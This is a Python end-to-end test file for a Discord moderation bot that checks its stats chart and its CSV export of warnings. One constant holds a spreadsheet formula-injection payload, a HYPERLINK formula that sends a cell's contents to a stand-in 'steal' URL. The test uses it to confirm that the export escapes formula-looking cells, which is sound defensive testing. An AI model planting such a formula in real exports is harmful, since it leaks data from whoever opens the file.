"""The real bot's file answers: /gigguard stats (a chart) and /gigguard export (a CSV), fetched from
the attachment URLs the emulator gives them, as a moderator would download them from Discord."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import aiohttp
import pytest

from devtools.emulator import RecordedCall
from tests.e2e.conftest import DEFERRED, ENCOURAGES, EPHEMERAL, Harness, answer_to

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="package")]

# A reason a spreadsheet would run as a formula if the export did not escape it.
FORMULA = '=HYPERLINK("http://example.invalid/steal?x="&A1,"open me")'
FORMULA_STARTS = ("=", "+", "-", "@")


async def file_answer(gigguard: Harness, command: str, **options: Any) -> RecordedCall:
    """Run `/command` as the moderator: the private "thinking..." deferral, then the follow-up
    message that carries the file (its recorded call; `.response` is the message Discord returns)."""
    emu = gigguard.emu
    interaction = await emu.slash_command(
        command, channel=gigguard.general, member=gigguard.moderator, options=options or None
    )
    callback = await emu.wait_for_interaction_response(interaction)
    assert callback.status == 200, callback.response
    assert callback.json["type"] == DEFERRED
    assert int(callback.json["data"]["flags"]) & EPHEMERAL, "only the moderator sees it"
    followup = await emu.wait_for_call("POST", rf"/webhooks/\d+/{interaction['token']}", within=30)
    assert followup.status == 200, followup.response
    assert followup.json["allowed_mentions"]["parse"] == []
    return followup


async def download(url: str) -> tuple[bytes, str]:
    async with aiohttp.ClientSession() as session, session.get(url) as response:
        assert response.status == 200, url
        return await response.read(), response.headers["Content-Type"]


async def warn(gigguard: Harness) -> tuple[Any, dict[str, Any], int]:
    """A fresh member posts advice and is warned: (member, their message, the warning id)."""
    member = await gigguard.member()
    sent = await gigguard.emu.post_message(gigguard.general, member, ENCOURAGES)
    await gigguard.emu.wait_for_reply_to(sent)
    [row] = gigguard.warnings(message_id=int(sent["id"]))
    return member, sent, int(row["id"])


async def test_stats_arrive_with_figures_and_a_chart_at_its_url(gigguard: Harness) -> None:
    await warn(gigguard)

    followup = await file_answer(gigguard, "gigguard stats")

    message = followup.response
    [chart] = message["attachments"]
    assert chart["filename"] == "gigguard-stats.png"
    assert chart["url"].startswith(f"http://{gigguard.emu.host}:{gigguard.emu.port}/")
    data, content_type = await download(chart["url"])
    assert data.startswith(b"\x89PNG\r\n\x1a\n"), "the chart is a PNG image"
    assert len(data) == chart["size"] > 1000
    assert content_type == "image/png"
    [embed] = message["embeds"]
    assert embed["image"]["url"] == "attachment://gigguard-stats.png", "the embed shows the chart"
    warned = re.search(r"\*\*(\d+)\*\* warnings", embed["description"])
    assert warned is not None, embed["description"]
    assert int(warned.group(1)) >= 1, "the warning just given is counted"
    [weeks] = [field["value"] for field in embed["fields"] if field["name"] == "Per week"]
    this_week = weeks.strip("`\n").splitlines()[-1].split()
    assert int(this_week[-3]) >= 1, f"this week's row counts the warning: {this_week}"


async def test_export_is_a_csv_of_the_warnings_with_formulas_escaped(gigguard: Harness) -> None:
    emu = gigguard.emu
    member, sent, warning_id = await warn(gigguard)
    pardon = await emu.slash_command(
        "pardon",
        channel=gigguard.general,
        member=gigguard.moderator,
        options={"warning_id": warning_id, "reason": FORMULA},
    )
    assert f"#{warning_id}" in (await answer_to(emu, pardon)).text

    followup = await file_answer(gigguard, "gigguard export")

    message = followup.response
    [export] = message["attachments"]
    assert export["filename"] == f"gigguard-warnings-{gigguard.guild.id}.csv"
    data, content_type = await download(export["url"])
    assert len(data) == export["size"]
    assert content_type.startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert f"{len(rows)} warning(s)" in message["content"], "the count said matches the file"
    assert len(rows) == len(gigguard.warnings()), "every warning of the server is in it"
    [ours] = [row for row in rows if row["id"] == str(warning_id)]
    assert ours["user_id"] == str(member.user.id)
    assert ours["message_id"] == sent["id"]
    assert ours["status"] == "pardoned"
    assert ours["status_reason"] == "'" + FORMULA, "a formula-looking cell is escaped with a '"
    text_cells = [cell for row in rows for cell in row.values() if cell and not is_number(cell)]
    assert not [cell for cell in text_cells if cell.startswith(FORMULA_STARTS)]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
